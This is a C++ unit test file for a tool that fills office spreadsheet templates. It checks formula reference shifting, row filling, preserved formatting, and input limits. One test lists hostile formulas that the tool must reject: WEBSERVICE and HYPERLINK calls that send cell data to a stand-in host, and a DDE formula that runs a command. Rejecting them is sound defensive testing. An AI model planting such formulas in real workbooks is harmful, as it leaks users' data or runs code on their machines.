// An office's own workbook, filled: what is written, what moves, what stays.

#include "exchange/fill.h"

#include <gtest/gtest.h>

#include "exchange/cell_refs.h"
#include "exchange/open.h"
#include "support/office_book.h"
#include "support/workbook_files.h"

namespace wangge::exchange {
namespace {

fill_source three_rows() {
  fill_source from;
  from.rows = 3;
  from.field = [](std::string_view name, std::size_t row) -> std::optional<fill_cell> {
    if (name == "name") return fill_cell{"小区<" + std::to_string(row + 1) + ">", false};
    if (name == "persons") return fill_cell{std::to_string(100 * (row + 1)), true};
    return std::nullopt;
  };
  from.single = [](std::string_view name) -> std::optional<fill_cell> {
    if (name == "unit") return fill_cell{"北坦街道", false};
    if (name == "total") return fill_cell{"600", true};
    return std::nullopt;
  };
  return from;
}

std::vector<std::vector<std::string>> rows_of(const std::string& bytes) {
  auto book = open_workbook({.path = {}, .bytes = bytes});
  EXPECT_TRUE(book.has_value());
  std::vector<std::vector<std::string>> out;
  auto sheet = (*book)->open(0);
  for (row next; *(*sheet)->next_row(next);) {
    out.emplace_back();
    for (const auto& one : next.cells()) out.back().push_back(one.text);
  }
  return out;
}

TEST(cell_refs, rows_below_move_and_ranges_take_new_rows_in) {
  const row_growth by{5, 4, "台账"};
  EXPECT_EQ(grown_formula("SUM(C5:C5)+C4+C9", by, "台账"), "SUM(C5:C8)+C4+C12");
  EXPECT_EQ(grown_formula("SUM($C$5:$C$6)", by, "台账"), "SUM($C$5:$C$9)");
  EXPECT_EQ(grown_formula("IF(A9=\"C9\",LOG10(B9),0)", by, "台账"), "IF(A12=\"C9\",LOG10(B12),0)");
  EXPECT_EQ(grown_formula("C9", by, "汇总"), "C9");
  EXPECT_EQ(grown_formula("台账!C9+'台账'!C10+别的!C9", by, "汇总"), "台账!C12+'台账'!C13+别的!C9");
  EXPECT_EQ(copied_formula("B5/C5+$B$5+B4+D9", by, 7), "B7/C7+$B$5+B4+D12");
  EXPECT_EQ(grown_range("A1:F9 C5:C5", by), "A1:F12 C5:C8");
}

TEST(fill, a_pattern_row_is_repeated_and_the_rest_moves) {
  const auto filled = fill_workbook(testing::office_book(), three_rows(), std::nullopt);
  ASSERT_TRUE(filled.has_value());
  const auto rows = rows_of(*filled);
  ASSERT_EQ(rows.size(), 7u);
  EXPECT_EQ(rows[0][0], "北坦街道住宅小区台账");
  EXPECT_EQ(rows[2], (std::vector<std::string>{"小区<1>", "100", "=B3*2"}));
  EXPECT_EQ(rows[4], (std::vector<std::string>{"小区<3>", "300", "=B5*2"}));
  EXPECT_EQ(rows[5], (std::vector<std::string>{"合计", "=SUM(B3:B5)", "600"}));
  EXPECT_EQ(rows[6][0], "填表人：{{nobody}}");  // an unknown word stays for a human to see
  auto book = open_workbook({.path = {}, .bytes = *filled});
  const auto merged = (*book)->merged(0);
  ASSERT_TRUE(merged.has_value());
  std::set<std::pair<std::uint32_t, std::uint32_t>> rows_merged;
  for (const auto& one : *merged) rows_merged.emplace(one.first_row, one.last_row);
  EXPECT_EQ(rows_merged, (std::set<std::pair<std::uint32_t, std::uint32_t>>{
                             {1, 1}, {3, 3}, {4, 4}, {5, 5}, {7, 7}}));
}

TEST(fill, formats_and_other_parts_stay) {
  const auto book = testing::office_book();
  const auto filled = *fill_workbook(book, three_rows(), std::nullopt);
  EXPECT_EQ(testing::part_of(filled, "xl/styles.xml"), testing::part_of(book, "xl/styles.xml"));
  EXPECT_EQ(testing::part_of(filled, "xl/worksheets/sheet2.xml"),
            testing::part_of(book, "xl/worksheets/sheet2.xml"));
  const auto sheet = testing::part_of(filled, "xl/worksheets/sheet1.xml");
  for (const char* kept : {"<cols><col min=\"1\" max=\"1\" width=\"30\" customWidth=\"1\"/></cols>",
                           "<pageSetup paperSize=\"8\" orientation=\"landscape\"/>",
                           "r=\"A4\" s=\"2\"", "ht=\"24\"", "sqref=\"B3:B5\"", "ref=\"A1:D7\""})
    EXPECT_NE(sheet.find(kept), std::string::npos) << kept << "\n" << sheet;
  const auto workbook = testing::part_of(filled, "xl/workbook.xml");
  EXPECT_NE(workbook.find("fullCalcOnLoad=\"1\""), std::string::npos);
  EXPECT_NE(workbook.find("台账!$A$1:$D$7"), std::string::npos) << workbook;
  EXPECT_EQ(testing::part_of(filled, "xl/calcChain.xml"), "");
  EXPECT_EQ(testing::part_of(filled, "[Content_Types].xml").find("calcChain"), std::string::npos);
}

TEST(fill, who_took_it_stands_below_what_is_filled) {
  auto from = three_rows();
  from.stamp = "演示数据·纯属虚构　导出人：甲";
  const auto rows = rows_of(*fill_workbook(testing::office_book(), from, std::nullopt));
  EXPECT_EQ(rows.back()[0], from.stamp);
  EXPECT_EQ(rows_of(*fill_workbook(testing::office_book(), three_rows(), std::nullopt)).size(), 7u);
}

TEST(fill, no_row_leaves_the_pattern_blank) {
  auto none = three_rows();
  none.rows = 0;
  none.field = [](std::string_view name, std::size_t) -> std::optional<fill_cell> {
    return name == "name" || name == "persons" ? std::optional(fill_cell{}) : std::nullopt;
  };
  const auto rows = rows_of(*fill_workbook(testing::office_book(), none, std::nullopt));
  ASSERT_EQ(rows.size(), 5u);  // a row of blanks with its formula
  EXPECT_EQ(rows[3][1], "=SUM(B3:B3)");
}

TEST(fill, mapped_columns_need_no_placeholder) {
  const fill_columns columns{0, 3, {{0, "name"}, {1, "persons"}}};
  const auto rows = rows_of(*fill_workbook(testing::office_book(false), three_rows(), columns));
  EXPECT_EQ(rows[2][0], "小区<1>");
  EXPECT_EQ(rows[5], (std::vector<std::string>{"合计", "=SUM(B3:B5)", "600"}));
}

TEST(fill, a_row_of_sums_below_the_headings_moves_down) {
  auto parts = one_sheet(R"(<row r="1"><c r="A1" t="inlineStr"><is><t>小区名称</t></is></c></row>)"
                         R"(<row r="2"><c r="A2" t="inlineStr"><is><t>合计</t></is></c>)"
                         R"(<c r="B2" t="inlineStr"><is><t>{{total}}</t></is></c></row>)");
  const fill_columns columns{0, 2, {{0, "name"}, {1, "persons"}}};
  const auto rows = rows_of(*fill_workbook(make_zip(parts), three_rows(), columns));
  ASSERT_EQ(rows.size(), 5u);
  EXPECT_EQ(rows[0], (std::vector<std::string>{"小区名称"}));
  EXPECT_EQ(rows[1], (std::vector<std::string>{"小区<1>", "100"}));
  EXPECT_EQ(rows[3], (std::vector<std::string>{"小区<3>", "300"}));
  EXPECT_EQ(rows[4], (std::vector<std::string>{"合计", "600"}));
}

TEST(fill, refuses_what_it_cannot_fill) {
  EXPECT_EQ(fill_workbook("no zip", three_rows(), std::nullopt).error().code(),
            error::damaged_file);
  EXPECT_EQ(
      fill_workbook(testing::office_book(true, true), three_rows(), std::nullopt).error().code(),
      error::template_rows);
}

std::string cells(const std::string& text) {
  return R"(<row r="1"><c r="A1" t="inlineStr"><is><t>{{name}}</t></is></c>)"
         R"(<c r="B1" t="inlineStr"><is><t>)" +
         text + "</t></is></c></row>";
}
error why_not(const zip_parts& parts, const fill_source& from = three_rows()) {
  const auto filled = fill_workbook(make_zip(parts), from, std::nullopt);
  return filled ? error::internal : filled.error().code();
}

TEST(fill, ends_soon_whatever_the_text) {
  const auto fits = [](const std::string& text) {
    return fill_workbook(make_zip(one_sheet(cells(text))), three_rows(), std::nullopt).has_value();
  };
  EXPECT_TRUE(fits("短"));
  // Ampersands without an end: reading to the end at each would take hours.
  EXPECT_TRUE(fits(std::string(8'000'000, '&')));
}

TEST(fill, refuses_what_would_grow_or_act) {
  auto many = three_rows();
  many.rows = 20'000;
  EXPECT_EQ(why_not(one_sheet(cells(std::string(50'000, 'x'))), many), error::template_wide);
  EXPECT_EQ(why_not(one_sheet(cells(std::string(33U << 20, ' ')))), error::damaged_file);
  auto open_ended = one_sheet("");
  set_part(open_ended, "xl/worksheets/sheet1.xml", "<worksheet><sheetData><row r=\"1\">");
  EXPECT_EQ(why_not(open_ended), error::damaged_file);
  for (const char* part : {"xl/vbaProject.bin", "xl/externalLinks/externalLink1.xml"}) {
    auto active = one_sheet(cells("短"));
    set_part(active, part, "x");
    EXPECT_EQ(why_not(active), error::template_active);
  }
}

std::string formula_cell(const std::string& formula) {
  return R"(<row r="1"><c r="A1" t="inlineStr"><is><t>{{name}}</t></is></c><c r="B1"><f>)" +
         formula + "</f><v>0</v></c></row>";
}

TEST(fill, refuses_formulas_that_fetch_or_send) {
  for (const char* formula :
       {"_xlfn.WEBSERVICE(&quot;http://x/?d=&quot;&amp;A1)", "WebService(A1)", "_xlfn.IMAGE(A1)",
        "HYPERLINK(&quot;http://x/&quot;&amp;A1,A1)", "cmd|'/c calc'!A0", "[1]Sheet1!A1",
        "'[book.xlsx]S'!A1", "RTD(&quot;a&quot;,,A1)", "1+CALL(A1)"})
    EXPECT_EQ(why_not(one_sheet(formula_cell(formula))), error::template_active) << formula;
  for (const char* formula : {"SUM(A1:A3)", "RECALL(A1)", "IF(A1=&quot;a|b [1]&quot;,1,2)",
                              "SUM('表 1'!A1:A2)", "Table1[[#This Row],[n]]"})
    EXPECT_NE(why_not(one_sheet(formula_cell(formula))), error::template_active) << formula;
  auto named = one_sheet(cells("短"));
  set_part(named, "xl/worksheets/_rels/sheet1.xml.rels",
           R"(<Relationships><Relationship Id="r9" Type="http://x/relationships/externalLink" )"
           R"(Target="../theme/notes1.xml"/></Relationships>)");
  EXPECT_EQ(why_not(named), error::template_active);
}

TEST(fill, all_sheets_together_stay_within_bounds_and_can_be_given_up) {
  auto source = three_rows();
  int asked = 0;
  source.given_up = [&asked] { return ++asked > 2; };
  EXPECT_EQ(why_not(one_sheet(cells("短")), source), error::cancelled);
}

TEST(fill, tells_its_placeholders) {
  EXPECT_EQ(*placeholders(testing::office_book()),
            (std::vector<std::string>{"unit", "name", "persons", "total", "nobody"}));
}

}  // namespace
}  // namespace wangge::exchange
